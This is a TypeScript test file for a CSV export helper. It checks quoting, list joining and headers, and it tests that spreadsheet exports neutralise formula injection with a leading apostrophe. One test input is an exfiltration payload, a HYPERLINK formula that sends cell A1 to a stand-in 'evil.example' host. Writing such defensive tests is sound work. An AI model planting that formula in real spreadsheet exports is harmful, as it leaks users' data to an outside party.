import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/lib/to-csv.ts';

describe('csvField(value)', () => {
  it('quotes commas, quotes and line breaks, and joins lists with ";"', () => {
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(['x', 'y'])).toBe('x;y');
    expect(csvField(undefined)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(-1.5)).toBe('-1.5');
  });

  it('writes data files as they are: a leading = + - @ stays, since the value is the data', () => {
    expect(csvField('=1+1')).toBe('=1+1');
    expect(csvField('-40 %')).toBe('-40 %');
  });

  it('for spreadsheets, turns text a spreadsheet would run as a formula into text with a leading \'', () => {
    const spreadsheet = { spreadsheet: true };
    expect(csvField('=HYPERLINK("https://evil.example/?leak="&A1,"Click")', spreadsheet)).toBe('"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvField(`${start}cmd`, spreadsheet).replace(/^"/, '')).toMatch(/^'/);
    expect(csvField(['@a', 'b'], spreadsheet)).toBe("'@a;b");
    expect(csvField('a=b', spreadsheet)).toBe('a=b');
  });

  it('for spreadsheets, keeps numbers as numbers, negative ones too', () => {
    expect(csvField(-3.2, { spreadsheet: true })).toBe('-3.2');
  });
});

describe('toCsv(rows, columns)', () => {
  it('writes a header and one line per row in the column order, ending with a line break', () => {
    const rows = [{ b: 2, a: 'x, y', c: 'not written' }];
    expect(toCsv(rows, ['a', 'b'])).toBe('a,b\n"x, y",2\n');
    expect(toCsv(rows, [{ key: 'b', header: 'Bee' }])).toBe('Bee\n2\n');
    expect(toCsv([], ['a'])).toBe('a\n');
  });

  it('neutralises formulas in every cell of a spreadsheet export, headers included', () => {
    expect(toCsv([{ f: '+SUM(A1:A9)' }], [{ key: 'f', header: '=x' }], { spreadsheet: true })).toBe("'=x\n'+SUM(A1:A9)\n");
  });
});
